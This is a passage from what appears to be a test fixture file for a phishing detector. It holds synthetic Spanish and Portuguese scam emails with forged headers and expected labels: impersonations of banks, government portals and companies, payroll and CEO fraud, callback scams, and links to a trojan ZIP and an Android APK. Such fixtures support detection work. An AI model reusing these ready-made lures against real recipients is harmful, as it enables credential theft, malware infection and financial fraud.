          'Le informamos de que el pago de su prestación por desempleo del mes de noviembre ha quedado suspendido por una incidencia en los datos bancarios comunicados.',
          'Para evitar la extinción de la prestación debe actualizar sus datos en un plazo de 48 horas a través de la sede electrónica:',
          { button: 'Acceder a la Sede Electrónica', href: 'https://sepe-prestaciones.top/sede/actualizar-datos' },
          'Atentamente,\nServicio Público de Empleo Estatal',
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    // Adobe's own share mail abused: a free Adobe account shares a PDF in Acrobat online whose
    // one link leads to the credential page. adobe.com signs; the name of the file is the lure.
    name: 'Adobe Acrobat real: una "gestoría" comparte "Contrato_arrendamiento_firmado.pdf" desde una cuenta gratuita',
    lang: 'es',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Gestoría Alameda via Adobe Acrobat <message@adobe.com>',
      to: 'lucia.ferrer@inmoferrer.es',
      replyTo: 'gestoria.alameda.docs@gmail.com',
      subject: 'Gestoría Alameda ha compartido «Contrato_arrendamiento_firmado.pdf» con usted',
      date: 'Wed, 12 Mar 2025 12:31:48 +0000',
      messageId: '1741782708123.4b9c2e1a7f3d@acrobat.adobe.com',
      dkim: ['adobe.com:ac1', 'adobesign.com:s2'],
      returnPath: 'bounce-acrobat-88123@mail.adobe.com',
      relay: 'mail-out22.adobe.com [192.150.8.122]',
      body: document(
        [
          { heading: 'Gestoría Alameda ha compartido un archivo con usted' },
          '«Buenos días, le adjunto el contrato firmado por ambas partes. Para verlo, pulse en el enlace del documento e inicie sesión con su correo.»',
          { button: 'Abrir', href: 'https://acrobat.adobe.com/id/urn:aaid:sc:EU:7b2e4c9a-1d3f-4e5a-9c8b-0f2e6d1a3c5b' },
          {
            small:
              'Adobe Inc., 345 Park Avenue, San José, CA 95110-2704, EE. UU. Ha recibido este mensaje porque Gestoría Alameda compartió un archivo con usted.',
          },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    // Payroll diversion: an employee's name on a free mailbox asks HR to pay this month's salary
    // into a new account (a neobank opened by a mule).
    name: 'Desvío de nómina: una "empleada" escribe a RR. HH. desde Gmail para cambiar la cuenta antes del cierre',
    lang: 'es',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Marta Soler Vidal <martasoler.vidal@gmail.com>',
      to: 'Recursos Humanos <rrhh@grupovallsindustrial.com>',
      subject: 'Cambio de cuenta para la nómina',
      date: 'Thu, 20 Nov 2025 09:58:02 +0100',
      messageId: 'CAE5k9Pq2Lm7Xw4Rt1Zn8Vb3Hc6Jd0Fs@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-wm1-f45.google.com [209.85.128.45]',
      body: gmailBody(
        'Hola,\n\nHe cambiado de banco y quería pediros que la nómina de noviembre me la ingreséis ya en la cuenta nueva, que la antigua la cierran esta semana:\n\nTitular: Marta Soler Vidal\nIBAN: ES76 1583 0001 1290 4471 2285\n\n¿Me confirmáis que llegáis a cambiarlo antes del cierre de nóminas? Os escribo desde el correo personal porque estoy en el móvil y no me deja entrar al corporativo.\n\nGracias,\nMarta',
      ),
    }),
  },
  {
    // A customer's thread hijacked from the compromised supplier's own mailbox: the reply
    // keeps the quoted history and links the "order" to a OneDrive look-alike.
    name: 'Hilo "RE: Pedido 4471" secuestrado en el buzón comprometido del proveedor, enlace a un OneDrive falso',
    lang: 'es',
    lure: 'reply-thread',
    expect: ['phishing'],
    raw: mail({
      from: 'Raúl Campos <rcampos@suministroslevante.es>',
      to: 'Compras <compras@talleresbernal.com>',
      subject: 'RE: Pedido 4471 - tornillería M8',
      date: 'Tue, 8 Apr 2025 13:19:45 +0200',
      messageId: 'PR3P195MB0712A9E4C1B7F3D26E8A0C5F1B9D2@PR3P195MB0712.EURP195.PROD.OUTLOOK.COM',
      dkim: ['suministroslevante.es:selector1'],
      relay: 'mail-db5eur02on2090.outbound.protection.outlook.com [40.107.249.90]',
      headers: [
        'In-Reply-To: <AM9PR01MB7214C3E1A8F5B2D04A6E9C7F1B3D8@AM9PR01MB7214.eurprd01.prod.outlook.com>',
        'References: <AM9PR01MB7214C3E1A8F5B2D04A6E9C7F1B3D8@AM9PR01MB7214.eurprd01.prod.outlook.com>',
      ],
      body: plain(
        'Buenas tardes,\n\nOs dejo la confirmación del pedido y la factura proforma actualizada en el siguiente enlace. Tenéis que iniciar sesión con vuestra cuenta de correo para verlo:\n\nhttps://onedrive-docs-compartidos.sbs/s/Pedido_4471_proforma\n\nUn saludo,\nRaúl Campos\nSuministros Levante\n\nDe: Compras <compras@talleresbernal.com>\nEnviado: lunes, 7 de abril de 2025 11:02\nPara: Raúl Campos <rcampos@suministroslevante.es>\nAsunto: Pedido 4471 - tornillería M8\n\nHola Raúl, ¿nos confirmas plazo de entrega para las 20 cajas de M8x40 y el precio actualizado? Gracias.',
      ),
    }),
  },
  {
    // Grandoreiro/Mekotio style: a PDF "invoice" with nothing but a download button that fetches
    // a ZIP (with an MSI inside) from a throw-away host.
    name: 'Factura electrónica en PDF cuyo único botón descarga un ZIP de un dominio .icu (troyano bancario)',
    lang: 'es',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Facturación <facturacion@asesoria-lopezmarin.com>',
      to: 'administracion@reformasgarrido.es',
      subject: 'Factura electrónica FE-2025-00871',
      date: 'Wed, 15 Oct 2025 07:42:29 +0200',
      messageId: '7c2e9a4b1f3d8e05@asesoria-lopezmarin.com',
      dkim: ['asesoria-lopezmarin.com:default'],
      relay: 'hosting27.servidoresweb.es [192.0.2.227]',
      body: multipart('mixed', [
        plain(
          'Buenos días,\n\nLe adjuntamos la factura electrónica FE-2025-00871 correspondiente al mes de septiembre.\n\nSi no puede visualizarla, pulse en «Descargar documento» dentro del PDF.\n\nUn saludo,\nDepartamento de Facturación',
        ),
        attachment(
          'FE-2025-00871.pdf',
          'application/pdf',
          textPdf(
            ['FACTURA ELECTRONICA FE-2025-00871', 'El documento no se puede mostrar en esta version del visor.', 'Descargar documento'],
            'https://descargas-facturae.icu/doc/FE-2025-00871.zip',
          ),
        ),
      ]),
    }),
  },
  {
    // MiCA used as a pretext: a look-alike of a Spanish exchange through SendGrid asks to
    // "re-verify" the account and enter the 2FA code before the new EU rules apply.
    name: 'Bit2Me imitado por SendGrid: "verificación obligatoria por la normativa MiCA" con código 2FA',
    lang: 'es',
    lure: 'crypto',
    expect: ['phishing'],
    raw: mail({
      from: 'Bit2Me <soporte@bit2me-cumplimiento.com>',
      to: 'alvaro.pineda@gmail.com',
      subject: 'Verificación obligatoria: normativa europea MiCA',
      date: 'Mon, 30 Dec 2024 17:05:12 +0000',
      messageId: 'Rk3Wq8Lm2Tz7Vb4Xn9Pc@geopod-ismtpd-12',
      dkim: ['bit2me-cumplimiento.com:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+51822914-a1b2-alvaro.pineda=gmail.com@em4471.bit2me-cumplimiento.com',
      relay: 'o1.ptr4471.bit2me-cumplimiento.com [149.72.120.44]',
      headers: ['X-SG-EID: u001.Kq8Rz1Wb7Lt4Xc9Vm3Pj6Hd0Fs5Ay2Ge8Ko1Mn4Tx', 'X-Entity-ID: u001.Pz4Lm8Qx2Tz9=='],
      body: document(
        [
          { heading: 'Adaptación al reglamento MiCA' },
          'Hola,',
          'A partir del 30 de diciembre de 2024 el reglamento europeo MiCA obliga a todos los exchanges a volver a verificar a sus clientes. Las cuentas que no completen la verificación quedarán limitadas a solo retiradas y sus saldos podrán ser bloqueados.',
          'Completa la verificación en menos de 5 minutos: inicia sesión, confirma tu identidad e introduce el código de tu app de autenticación.',
          { button: 'Verificar mi cuenta', href: 'https://u51822914.ct.sendgrid.net/ls/click?upn=u001.Tz7Rb4Wn8Pc1Hd5Fj6As0Gy-2Bk4Vx3Kq9Lm2' },
          { small: 'Bit2Me · Madrid, España. Nunca compartas tu contraseña.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    // Payroll-themed quishing in Spanish: the only content is a PDF with a QR code "to see your
    // payslip" from a compromised gestoría mailbox.
    name: 'Nómina de diciembre en un PDF con un código QR que pide la cuenta de Microsoft 365',
    lang: 'es',
    lure: 'qr-code',
    expect: ['phishing'],
    raw: mail({
      from: 'Departamento de Nóminas <nominas@gestoriaribera.es>',
      to: 'Andrés Molina <amolina@transportesmolina.es>',
      subject: 'Nómina diciembre 2025 y paga extra – documento protegido',
      date: 'Fri, 19 Dec 2025 09:03:17 +0100',
      messageId: 'DB8P191MB1472E0C9A3F1B7D52C4E8A6F0D9B1@DB8P191MB1472.EURP191.PROD.OUTLOOK.COM',
      dkim: ['gestoriaribera.es:selector1'],
      relay: 'mail-vi1eur05on2104.outbound.protection.outlook.com [40.107.21.104]',
      body: multipart('mixed', [
        plain(
          'Buenos días,\n\nLe enviamos su nómina de diciembre junto con la paga extraordinaria. Por protección de datos el documento está cifrado: escanee el código QR con la cámara del móvil para acceder.\n\nUn saludo,\nDepartamento de Nóminas',
        ),
        attachment(
          'Nomina_Diciembre_2025.pdf',
          'application/pdf',
          qrPdf(
            [
              'NOMINA DICIEMBRE 2025 - PAGA EXTRAORDINARIA',
              'Documento protegido (RGPD).',
              'Escanee el codigo QR con su movil e inicie sesion con su cuenta',
              'de correo corporativo para ver y descargar la nomina.',
            ],
            'https://nominas-portal.web.app/?id=YW1vbGluYUB0cmFuc3BvcnRlc21vbGluYS5lcw==',
          ),
        ),
      ]),
    }),
  },
  {
    // Callback (TOAD) in Spanish: a renewal "invoice" from Gmail with no link at all, only a
    // phone number where a fake agent installs remote-access software.
    name: 'Factura de renovación de McAfee de 349,99 € desde Gmail, sin enlaces: "llame para cancelar"',
    lang: 'es',
    lure: 'callback',
    expect: ['fraud'],
    raw: mail({
      from: 'Facturación Online <facturas.renovacion2025@gmail.com>',
      to: 'carmen.iglesias58@hotmail.com',
      subject: 'Confirmación de pedido #MCF-77302914',
      date: 'Thu, 6 Nov 2025 14:12:40 +0000',
      messageId: 'CAF9w2Lq7Rk5Mz1Xb8Vn4Tc3Hp6Jd0Gs@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-lf1-f41.google.com [209.85.167.41]',
      body: gmailBody(
        'Estimado cliente:\n\nGracias por renovar su suscripción. Su plan se ha renovado automáticamente y el cargo aparecerá en su extracto en las próximas 24 horas.\n\nProducto: McAfee Total Protection – 10 dispositivos\nDuración: 3 años\nImporte: 349,99 €\nMétodo de pago: tarjeta registrada\nNº de pedido: MCF-77302914\n\nSi usted no ha autorizado esta renovación o desea cancelarla y obtener el reembolso, llame a nuestro servicio de atención al cliente en las próximas 24 horas:\n\n+34 910 48 73 21\n\nAtentamente,\nDepartamento de Facturación',
      ),
    }),
  },
  // ---------------------------------------------------------------- Portuguese (Brazil)
  {
    // Fake fraud-alert callback: a "compra aprovada" of a large amount, no link, only a
    // "central de segurança" number that leads to the false-agent scam.
    name: 'Nubank falso: "compra aprovada de R$ 4.879,00", sem link, ligue para a central se não reconhece',
    lang: 'pt-BR',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Nubank Segurança <seguranca.nubank.alerta@outlook.com>',
      to: 'fernanda.ribeiro.sp@gmail.com',
      subject: 'Compra aprovada no seu cartão final 4417',
      date: 'Sat, 11 Oct 2025 21:47:02 -0300',
      messageId: 'CP4P284MB1936F1A0C9E7B3D52A8E4C6F0D1B9@CP4P284MB1936.BRAP284.PROD.OUTLOOK.COM',
      dkim: ['outlook.com:selector1'],
      relay: 'mail-cp2bra01olkn2040.outbound.protection.outlook.com [40.92.42.40]',
      body: plain(
        'Olá, Fernanda.\n\nUma compra foi aprovada no seu cartão de crédito final 4417:\n\nEstabelecimento: MAGAZINE ONLINE ELETRO\nValor: R$ 4.879,00 (à vista)\nData: 11/10/2025 21:39\n\nNão reconhece esta compra? Ligue imediatamente para a nossa Central de Segurança 24h: 0800 591 4782 e informe o protocolo 55128. Não responda este e-mail.\n\nNubank',
      ),
    }),
  },
  {
    // Mercado Pago look-alike: money "received" is held until the reader logs in and confirms,
    // sent through a hijacked Brevo account of a furniture store.
    name: 'Mercado Pago imitado pela conta Brevo sequestrada de uma loja de móveis: "R$ 2.300 retidos, confirme"',
    lang: 'pt-BR',
    lure: 'payment-app',
    expect: ['phishing'],
    raw: mail({
      from: 'Mercado Pago <contato@moveisgasparini.com.br>',
      to: 'rodrigo.almeida82@hotmail.com',
      subject: 'Você recebeu R$ 2.300,00 – liberação pendente',
      date: 'Tue, 1 Jul 2025 10:18:55 -0300',
      messageId: '202507011318.71023344981@smtp-relay.mailin.fr',
      dkim: ['moveisgasparini.com.br:mail', 'sendibm1.com:mail'],
      returnPath: 'bounces-7102334-rodrigo.almeida82=hotmail.com@sendibm1.com',
      relay: 'm118.sendibm1.com [77.32.148.118]',
      headers: brevoHeaders('7102334', 'y7Kq2Lm9Rz4Wt1Xb8Vc3Np'),
      body: document(
        [
          { heading: 'Você recebeu uma transferência' },
          'Olá! Uma transferência de R$ 2.300,00 foi enviada para a sua conta Mercado Pago, mas ficou retida por segurança.',
          'Para liberar o valor, acesse sua conta e confirme seus dados em até 24 horas. Depois desse prazo o dinheiro é devolvido ao remetente.',
          { button: 'Liberar dinheiro', href: 'https://7102334.r.af.d.sendibt2.com/tr/cl/h8Kq2Lm9Rz4Wt1Xb8Vc3NpYd5' },
          { small: 'Móveis Gasparini · Rua XV de Novembro, 1120, Blumenau – SC. Cancelar inscrição.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // Debt-settlement lure on Serasa's name: a 96% discount "only today", the boleto is the
    // criminal's; throw-away .top domain.
    name: 'Serasa Limpa Nome falso: acordo com 96% de desconto só hoje, boleto num domínio .top',
    lang: 'pt-BR',
    lure: 'bank',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Serasa Limpa Nome <acordos@serasa-limpanome.top>',
      to: 'juliana.costa.rj@yahoo.com.br',
      subject: 'JULIANA, sua dívida de R$ 3.214,77 pode ser quitada por R$ 128,59',
      date: 'Wed, 26 Nov 2025 09:05:31 -0300',
      messageId: '6926f03b.a1c7e9@serasa-limpanome.top',
      relay: 'mail.serasa-limpanome.top [203.0.113.66]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          { heading: 'Feirão Limpa Nome' },
          'Juliana, identificamos uma dívida em seu CPF com a empresa CREDICARD S.A. no valor de R$ 3.214,77.',
          'Somente hoje você pode quitar por R$ 128,59 (96% de desconto) e ter o nome limpo em até 5 dias úteis.',
          { button: 'Gerar boleto do acordo', href: 'https://serasa-limpanome.top/acordo?cpf=***.214.887-**' },
          'A oferta expira às 23h59.',
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // gov.br account "downgrade": the reader must re-validate with a selfie and the password,
    // or lose access to INSS, FGTS and the digital driving licence.
    name: 'gov.br: "sua conta nível ouro será rebaixada", validar biometria e senha num domínio .sbs',
    lang: 'pt-BR',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'gov.br <nao-responda@govbr-validacao.sbs>',
      to: 'paulo.henrique.mendes@gmail.com',
      subject: 'Aviso: sua conta gov.br será rebaixada para o nível bronze',
      date: 'Mon, 18 Aug 2025 08:33:17 -0300',
      messageId: '20250818113317.5c2a@govbr-validacao.sbs',
      relay: 'srv.govbr-validacao.sbs [198.51.100.141]',
      auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
      body: document(
        [
          { heading: 'Atualização cadastral obrigatória' },
          'Prezado(a) cidadão(ã),',
          'Sua conta gov.br nível ouro precisa ser revalidada. Sem a revalidação até 20/08/2025, a conta será rebaixada para o nível bronze e você perderá o acesso ao Meu INSS, FGTS Digital, CNH do Brasil e à declaração do Imposto de Renda.',
          'A revalidação é feita com a sua senha gov.br e uma selfie (reconhecimento facial):',
          { button: 'Revalidar minha conta', href: 'https://govbr-validacao.sbs/acesso/revalidar' },
          'Ministério da Gestão e da Inovação em Serviços Públicos',
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // Task scam in Brazil: liking videos for pay, then "missions" that need a Pix deposit.
    name: 'Vaga "curtir vídeos e ganhar R$ 50 a R$ 300 por dia" com tarefas pelo Telegram e depósito via Pix',
    lang: 'pt-BR',
    lure: 'job',
    expect: ['fraud'],
    raw: mail({
      from: 'RH Digital Talentos <rh.digitaltalentos@gmail.com>',
      to: 'larissa.santos.bh@gmail.com',
      subject: 'Vaga home office – pagamento diário via Pix',
      date: 'Thu, 24 Jul 2025 16:50:09 -0300',
      messageId: 'CAM4p8Lq2Rk7Xz1Vb9Nc5Tw3Hd6Jf0Gs@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-qk1-f181.google.com [209.85.222.181]',
      body: gmailBody(
        'Olá Larissa, tudo bem?\n\nSou a Camila, da Digital Talentos. Seu perfil foi selecionado para uma vaga home office de meio período para ajudar marcas a aumentar o engajamento no TikTok e no YouTube.\n\nVocê só precisa curtir e seguir vídeos pelo celular, de 20 a 40 minutos por dia. Cada tarefa paga de R$ 2 a R$ 15 e a média é de R$ 50 a R$ 300 por dia, com pagamento diário via Pix. Depois do período de teste você participa das missões premium, com depósito de ativação a partir de R$ 100 e retorno de 30%.\n\nPara começar, chame a nossa recrutadora no Telegram: https://t.me/DigitalTalentosRH e informe o código DT-4471.\n\nAbraço,\nCamila Duarte\nRecrutamento',
      ),
    }),
  },
  {
    // Lottery advance fee in Brazilian dress: a "Mega-Sena" prize to release after paying a tax.
    name: 'Prêmio "Mega da Virada" de R$ 1,2 milhão num sorteio de clientes, pagar a taxa de liberação para o advogado',
    lang: 'pt-BR',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'Departamento de Premiação <premiacao.loterias.caixa@outlook.com>',
      to: 'antonio.ferreira1961@bol.com.br',
      subject: 'PARABÉNS! Seu CPF foi contemplado no sorteio especial',
      date: 'Fri, 9 Jan 2026 11:24:46 -0300',
      messageId: 'RO2P284MB1120E8C1A7F9B3D05A2C6E4F1B8D0@RO2P284MB1120.BRAP284.PROD.OUTLOOK.COM',
      dkim: ['outlook.com:selector1'],
      relay: 'mail-cp2bra01olkn2071.outbound.protection.outlook.com [40.92.42.71]',
      body: plain(
        'Prezado Sr. Antônio Ferreira,\n\nTemos o prazer de informar que o seu CPF foi sorteado no Sorteio Especial de Clientes da Mega da Virada 2025, e o senhor foi contemplado com o prêmio de R$ 1.200.000,00 (um milhão e duzentos mil reais).\n\nPara liberar o prêmio, é necessário o recolhimento do imposto de transferência (ITCMD) e dos honorários do advogado responsável, no valor total de R$ 1.870,00, que devem ser pagos via Pix antes do crédito.\n\nEntre em contato com o Dr. Marcelo Vasconcelos pelo WhatsApp (61) 99187-4420 informando o número do bilhete 04-17-22-35-48-59.\n\nO prazo para resgate é de 5 dias úteis.\n\nAtenciosamente,\nDepartamento de Premiação',
      ),
    }),
  },
  {
    // Android banking malware by mail: the "new digital driving licence app" is an APK link.
    name: 'CNH do Brasil: "instale a nova versão do aplicativo", link direto para um APK',
    lang: 'pt-BR',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Senatran - CNH do Brasil <atendimento@cnh-digital-app.icu>',
      to: 'marcos.vinicius.lopes@hotmail.com',
      subject: 'Sua CNH Digital será desativada em 48 horas',
      date: 'Tue, 14 Oct 2025 13:01:22 -0300',
      messageId: 'e41c9a7b2f3d@cnh-digital-app.icu',
      relay: 'vps.cnh-digital-app.icu [203.0.113.205]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          'Prezado condutor,',
          'A versão atual do aplicativo Carteira Digital de Trânsito foi descontinuada. Para manter sua CNH digital válida, instale a nova versão do aplicativo CNH do Brasil no seu celular Android em até 48 horas.',
          { button: 'Baixar o aplicativo', href: 'https://cnh-digital-app.icu/download/CNH_do_Brasil_v5.2.apk' },
          'Após a instalação, ative a permissão de acessibilidade para validar seus dados.',
          'Secretaria Nacional de Trânsito',
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // Reply-thread from a compromised client mailbox: "segue a planilha" linking to a fake
    // Excel Online page that asks for the Microsoft password.
    name: 'Thread sequestrado "RE: orçamento reforma" com "segue a planilha atualizada" num Excel Online falso',
    lang: 'pt-BR',
    lure: 'reply-thread',
    expect: ['phishing'],
    raw: mail({
      from: 'Renata Guimarães <renata@guimaraesarquitetura.com.br>',
      to: 'Obras <obras@construtoraparana.com.br>',
      subject: 'RE: orçamento reforma sala comercial',
      date: 'Wed, 5 Feb 2025 15:22:08 -0300',
      messageId: 'CPVP152MB4471A2E9C1F7B3D05A8C4E6F2D0B9@CPVP152MB4471.LAMP152.PROD.OUTLOOK.COM',
      dkim: ['guimaraesarquitetura.com.br:selector1'],
      relay: 'mail-cp2bra01on2102.outbound.protection.outlook.com [40.107.246.102]',
      headers: ['In-Reply-To: <a7c2e9f1b4d8@construtoraparana.com.br>', 'References: <a7c2e9f1b4d8@construtoraparana.com.br>'],
      body: plain(
        'Boa tarde,\n\nSegue a planilha atualizada com os valores revisados. Para abrir é só entrar com o seu e-mail e senha:\n\nhttps://excel-online-planilhas.cfd/view/orcamento_reforma_rev3.xlsx\n\nAbs,\nRenata\n\nEm ter., 4 de fev. de 2025 às 10:41, Obras <obras@construtoraparana.com.br> escreveu:\n> Renata, pode mandar a planilha com o orçamento revisado da sala 804? Precisamos aprovar até sexta.',
      ),
    }),
  },
  {
    // Mailbox quota on a Brazilian hosting brand, the form on Google Forms.
    name: 'Locaweb falso: "sua caixa de e-mail será desativada", confirmar a senha num Google Forms',
    lang: 'pt-BR',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'Suporte Webmail <suporte@ferragensitaipu.com.br>',
      to: 'financeiro@distribuidoramarajo.com.br',
      subject: 'Sua conta de e-mail atingiu 99% da capacidade',
      date: 'Mon, 16 Jun 2025 07:58:40 -0300',
      messageId: '1750071520.9c3a7e@ferragensitaipu.com.br',
      dkim: ['ferragensitaipu.com.br:default'],
      relay: 'smtp.ferragensitaipu.com.br [192.0.2.64]',
      body: document(
        [
          'Prezado usuário financeiro@distribuidoramarajo.com.br,',
          'Sua caixa de e-mail atingiu 99% da capacidade. Novas mensagens estão sendo devolvidas ao remetente e a conta será desativada em 24 horas.',
          'Para liberar mais espaço gratuitamente, confirme sua conta no formulário abaixo:',
          { button: 'Liberar espaço', href: 'https://docs.google.com/forms/d/e/1FAIpQLSc7Kq2Lm9Rz4Wt1Xb8Vc3NpYd5Hf6Gs0Ae2Tk/viewform' },
          'Equipe de Suporte Webmail Locaweb',
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // Fake AI trading robot "from Petrobras" promoted by a hijacked ActiveCampaign account:
    // register and deposit R$ 1.500 with a "gestor". Caught by the robot's promised monthly
    // income; ActiveCampaign's tracker (acemlnb.com), whose redirectUrl carries the .top
    // destination in base64, is still read as opaque.
    name: 'Robô de investimento com IA "da Petrobras" pela conta ActiveCampaign sequestrada de uma academia, depósito inicial',
    lang: 'pt-BR',
    lure: 'crypto',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Plataforma Petro IA <contato@academiaforcatotal.com.br>',
      to: 'sandra.moraes@uol.com.br',
      subject: 'Sandra, renda extra de R$ 9.000 por mês com o robô da Petrobras',
      date: 'Sat, 13 Sep 2025 12:00:05 -0300',
      messageId: '20250913150005.4471.28813@acemsd3.com',
      dkim: ['academiaforcatotal.com.br:dk', 'acems3.com:dk'],
      returnPath: 'bounce-48213-1183-28813-sandra.moraes=uol.com.br@acems3.com',
      relay: 'acems3-22.acems3.com [192.92.97.22]',
      headers: [
        'List-Unsubscribe: <https://academiaforcatotal.activehosted.com/box.php?nl=3&c=1183&m=1190&s=9f2e7a1c&funcml=unsub2>',
        LIST_UNSUBSCRIBE_POST,
        'X-mid: c2FuZHJhLm1vcmFlc0B1b2wuY29tLmJyICwgMTE4Mw==',
      ],
      body: document(
        [
          { heading: 'Petro IA: o robô que investe por você' },
          'A nova plataforma de investimentos com inteligência artificial, criada para acionistas da Petrobras, está aberta para 500 novos participantes.',
          'Com um depósito inicial de apenas R$ 1.500,00 o robô opera sozinho e rende em média R$ 9.000 por mês. Um gestor pessoal entra em contato pelo WhatsApp para ativar sua conta.',
          {
            button: 'Quero participar',
            href: 'https://academiaforcatotal.lt.acemlnb.com/Prod/link-tracker?redirectUrl=aHR0cHM6Ly9wZXRyby1pYS1pbnZlc3QudG9wL2NhZGFzdHJv&sig=7mQx2Lr9Tn4Vb1Kc8Zp3Wy6Hd5Fj0As&iat=1757775605&a=%7C%7C48213%7C%7C&account=academiaforcatotal%2Eactivehosted%2Ecom&email=c2FuZHJh&s=9f2e7a1c&i=1190A1183A3A28813',
          },
          { small: 'Vagas limitadas. Academia Força Total · Av. Brasil, 2040, Londrina – PR. Descadastrar.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  // ---------------------------------------------------------------- Portuguese (Portugal)
  {
    // Social-security refund: "reembolso de contribuições" asks for the Segurança Social Direta
    // password and the IBAN on a throw-away page.
    name: 'Segurança Social: reembolso de contribuições de 412,36 €, confirmar IBAN e senha da Segurança Social Direta',
    lang: 'pt-PT',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Segurança Social <notificacoes@seg-social-reembolsos.top>',
      to: 'ana.rita.sousa@sapo.pt',
      subject: 'Reembolso de contribuições disponível',
      date: 'Tue, 13 May 2025 10:11:54 +0100',
      messageId: '682319da.7c1e4a@seg-social-reembolsos.top',
      relay: 'mail.seg-social-reembolsos.top [198.51.100.58]',
      auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
      body: document(
        [
          'Exmo.(a) Senhor(a),',
          'Após a verificação anual das contribuições, apurou-se um valor pago em excesso de 412,36 €, que lhe será reembolsado.',
          'Para receber o reembolso, aceda à Segurança Social Direta e confirme o seu IBAN no prazo de 5 dias úteis. Findo esse prazo, o valor reverte a favor do Estado.',
          { button: 'Aceder à Segurança Social Direta', href: 'https://seg-social-reembolsos.top/ssd/reembolso' },
          'Instituto da Segurança Social, I.P.',
        ],
        { lang: 'pt-PT' },
      ),
    }),
  },
  {
    // Utility cut-off threat: an EDP "fatura em atraso" with a Multibanco reference that pays
    // the criminal, under a 48-hour deadline.
    name: 'EDP: fatura em atraso, corte de energia em 48 horas, pagar por referência Multibanco num link .cfd',
    lang: 'pt-PT',
    lure: 'account-alert',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'EDP Comercial <faturacao@edp-clientes-pt.cfd>',
      to: 'jose.m.carvalho@gmail.com',
      subject: 'Aviso de corte: fatura em atraso',
      date: 'Thu, 23 Oct 2025 08:26:37 +0100',
      messageId: '20251023072637.a41c@edp-clientes-pt.cfd',
      dkim: ['edp-clientes-pt.cfd:default'],
      relay: 'vps-eu.edp-clientes-pt.cfd [203.0.113.32]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Aviso de interrupção do fornecimento' },
          'Caro(a) cliente,',
          'Não recebemos o pagamento da sua fatura de setembro no valor de 73,18 €. Caso o pagamento não seja efetuado nas próximas 48 horas, o fornecimento de eletricidade será interrompido e será cobrada uma taxa de religação de 32,50 €.',
          { button: 'Pagar fatura', href: 'https://edp-clientes-pt.cfd/pagamento?cl=7710293' },
          { small: 'EDP Comercial – Comercialização de Energia, S.A. Esta é uma mensagem automática.' },
        ],
        { lang: 'pt-PT' },
      ),
    }),
  },
  {
    // OLX seller scam: the "buyer" sends a link where the seller must "receive" the money with
    // MB WAY and the card.
    name: 'OLX falso: "o comprador pagou 95 €, recebe o dinheiro" com o número MB WAY e o cartão',
    lang: 'pt-PT',
    lure: 'payment-app',
    expect: ['phishing'],
    raw: mail({
      from: 'OLX Portugal <pagamentos@olx-entregas.shop>',
      to: 'tiago.fonseca.90@hotmail.com',
      subject: 'O seu artigo foi pago – receba 95,00 €',
      date: 'Sun, 22 Jun 2025 17:44:21 +0100',
      messageId: 'b9e2c1a7-4d3f-4e8a-9c1b-0f2e6d1a3c5b@olx-entregas.shop',
      relay: 'mail.olx-entregas.shop [198.51.100.230]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          { heading: 'O comprador pagou a sua encomenda' },
          'Olá! O pagamento de 95,00 € pelo anúncio «Carrinho de bebé Bugaboo Fox» foi efetuado através do OLX Entregas.',
          'Para receber o dinheiro na sua conta, indique o número de telemóvel associado ao MB WAY e os dados do cartão. Depois de receber o valor, o estafeta recolhe o artigo.',
          { button: 'Receber 95,00 €', href: 'https://olx-entregas.shop/receber?id=88210453' },
          { small: 'OLX Portugal · O pagamento expira em 12 horas.' },
        ],
        { lang: 'pt-PT' },
      ),
    }),
  },
  {
    // CEO fraud in European Portuguese: the "administrador" on a look-alike of the company's
    // domain asks for a confidential transfer and for the reader's discretion.
    name: 'Fraude do CEO: o "administrador" num domínio parecido pede uma transferência confidencial de 48.500 €',
    lang: 'pt-PT',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Luís Pacheco <luis.pacheco@metalurgica-avelar.pt.com>',
      to: 'Cláudia Reis <claudia.reis@metalurgica-avelar.pt>',
      subject: 'Assunto confidencial',
      date: 'Wed, 19 Mar 2025 11:52:09 +0000',
      messageId: '1742385129.8a2c@metalurgica-avelar.pt.com',
      relay: 'mail.metalurgica-avelar.pt.com [192.0.2.199]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: plain(
